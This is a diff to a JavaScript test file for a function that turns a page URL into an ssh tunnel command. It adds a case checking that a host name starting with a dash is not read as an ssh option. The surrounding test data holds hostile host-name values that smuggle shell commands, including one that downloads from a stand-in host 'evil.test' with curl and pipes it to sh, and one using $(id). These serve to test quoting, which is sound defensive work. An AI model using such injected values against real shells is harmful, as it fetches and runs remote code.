@@ -435,6 +435,8 @@ describe('the tunnel the demo page advises when opened away from localhost', () 
     ['http://[2001:db8::1]:9000/', 'ssh -L 9000:localhost:9000 2001:db8::1', 'http://localhost:9000/'],
     // A host name a link chose, which a browser takes and a shell would run: quoted, so that it names a host only.
     ['http://a;{curl,-so,x,evil.test};{sh,x};.evil.test:8802/', "ssh -L 8802:localhost:8802 'a;{curl,-so,x,evil.test};{sh,x};.evil.test'", 'http://localhost:8802/'],
+    // No host name begins with a dash: one that would is no option to ssh.
+    ['http://-fn:8802/', 'ssh -L 8802:localhost:8802 -- -fn', 'http://localhost:8802/'],
     ["http://it's$(id).test:8802/", "ssh -L 8802:localhost:8802 'it'\\''s$(id).test'", 'http://localhost:8802/'],
   ])('for %s: %s, then %s', (page, command, url) => {
     expect(tunnelAdvice(new URL(page))).toEqual({ command, url });
